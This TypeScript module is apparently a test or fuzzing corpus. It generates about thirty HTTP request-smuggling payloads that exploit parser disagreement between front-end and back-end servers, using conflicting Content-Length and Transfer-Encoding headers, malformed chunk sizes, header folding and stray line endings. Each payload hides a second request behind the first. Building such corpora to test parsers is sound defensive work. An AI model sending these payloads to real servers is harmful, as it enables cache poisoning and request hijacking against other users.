const SECOND = "GET /robots.txt HTTP/1.1\r\nHost: HOST\r\n\r\n";
const FORM = ["Content-Type: application/x-www-form-urlencoded", "Origin: http://HOST"];

const post = (headers: string[], body: string) =>
  ["POST /contact HTTP/1.1", "Host: HOST", ...FORM, ...headers, "", body].join("\r\n");
const chunked = "Transfer-Encoding: chunked";

const VARIANTS: Record<string, string> = {
  "length and chunks": post(
    [`Content-Length: ${5 + SECOND.length}`, chunked],
    `0\r\n\r\n${SECOND}`,
  ),
  "chunks and length": post([chunked, "Content-Length: 4"], `1\r\na\r\n0\r\n\r\n${SECOND}`),
  "chunked twice, one hidden": post([chunked, "Transfer-Encoding: x"], `0\r\n\r\n${SECOND}`),
  "chunked and identity": post(["Transfer-Encoding: chunked, identity"], `0\r\n\r\n${SECOND}`),
  "chunked with a tab": post(["Transfer-Encoding:\tchunked\u000b"], `0\r\n\r\n${SECOND}`),
  "chunked before its colon": post(["Transfer-Encoding : chunked"], `0\r\n\r\n${SECOND}`),
  "chunked folded": post(["Transfer-Encoding:\r\n chunked"], `0\r\n\r\n${SECOND}`),
  "chunked in quotes": post(['Transfer-Encoding: "chunked"'], `0\r\n\r\n${SECOND}`),
  "two lengths": post(["Content-Length: 0", `Content-Length: ${SECOND.length}`], SECOND),
  "a list of lengths": post([`Content-Length: 0, ${SECOND.length}`], SECOND),
  "a length with a sign": post(["Content-Length: +0"], SECOND),
  "a length in hexadecimal": post(["Content-Length: 0x0"], SECOND),
  "a length with a space inside": post(["Content-Length: 0 0"], SECOND),
  "a length below nothing": post(["Content-Length: -1"], SECOND),
  "a length before its colon": post(["Content-Length : 0"], SECOND),
  "a folded header": post(["X: a", " b: c", "Content-Length: 0"], SECOND),
  "a bare line feed": `POST /contact HTTP/1.1\nHost: HOST\nContent-Length: 0\n\n${SECOND}`,
  "a bare carriage return": `POST /contact HTTP/1.1\rHost: HOST\r\rContent-Length: 0\r\r${SECOND}`,
  "a line feed in a header": post(["X: a\nContent-Length: 0"], SECOND),
  "a NUL in a header": post(["X: a\u0000b", "Content-Length: 0"], SECOND),
  "a chunk of no length": post([chunked], `\r\n\r\n0\r\n\r\n${SECOND}`),
  "a chunk with a sign": post([chunked], `+1\r\na\r\n0\r\n\r\n${SECOND}`),
  "a chunk in 0x": post([chunked], `0x1\r\na\r\n0\r\n\r\n${SECOND}`),
  "a chunk of an enormous length": post([chunked], `ffffffffffffffff1\r\na\r\n0\r\n\r\n${SECOND}`),
  "a chunk without its end": post([chunked], `1\r\naXX0\r\n\r\n${SECOND}`),
  "a chunk ended by a line feed": post([chunked], `1\na\n0\n\n${SECOND}`),
  "an extension with a line feed": post([chunked], `1;a\nb\r\na\r\n0\r\n\r\n${SECOND}`),
  "HTTP/1.0 with chunks": post([chunked], `0\r\n\r\n${SECOND}`).replace("HTTP/1.1", "HTTP/1.0"),
  "a space before the header": `GET / HTTP/1.1\r\n Host: HOST\r\n\r\n${SECOND}`,
  "no host, then another": `GET / HTTP/1.1\r\n\r\n${SECOND}`,
  "two hosts": `GET / HTTP/1.1\r\nHost: HOST\r\nHost: evil.example\r\nContent-Length: x\r\n\r\n${SECOND}`,
};

/** Requests whose end two programs could see in different places, each with a second one behind. */
export function smuggled(host: string): Record<string, Buffer> {
  return Object.fromEntries(
    Object.entries(VARIANTS).map(([what, text]) => [
      what,
      Buffer.from(text.replaceAll("HOST", host), "latin1"),
    ]),
  );
}
